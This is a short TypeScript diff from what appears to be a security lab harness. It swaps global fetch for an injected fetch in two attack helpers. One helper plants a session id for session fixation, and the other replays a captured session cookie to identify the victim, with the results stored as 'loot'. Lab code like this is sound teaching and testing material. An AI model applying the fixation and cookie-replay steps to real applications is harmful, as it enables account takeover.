@@ -48,7 +48,10 @@ function sessionCookieFrom(setCookies: string[]): string | undefined {
 export async function prepareFixation(ctx: LabContext): Promise<{ sid: string; plantUrl: string }> {
   const sid = randomToken(32);
   const plantUrl = `${ctx.origins.app}/api/session/legacy/enter?sid=${sid}`;
-  const response = await fetch(plantUrl, { redirect: 'manual', headers: { 'user-agent': ATTACKER_USER_AGENT } });
+  const response = await ctx.dependencies.fetch(plantUrl, {
+    redirect: 'manual',
+    headers: { 'user-agent': ATTACKER_USER_AGENT },
+  });
   await response.arrayBuffer();
   const loot = sessionLoot(ctx);
   loot.planted = sessionCookieFrom(response.headers.getSetCookie());
@@ -68,7 +71,7 @@ export interface ReplayResult {
  * see whose session it is.
  */
 export async function replaySessionCookie(ctx: LabContext, value: string): Promise<ReplayResult> {
-  const response = await fetch(`${ctx.origins.app}/api/session/me`, {
+  const response = await ctx.dependencies.fetch(`${ctx.origins.app}/api/session/me`, {
     headers: { cookie: `${SESSION_COOKIE}=${encodeURIComponent(value)}`, 'user-agent': ATTACKER_USER_AGENT },
   });
   const body = (await response.json().catch(() => ({}))) as { user?: { email: string; role: string }; error?: string };
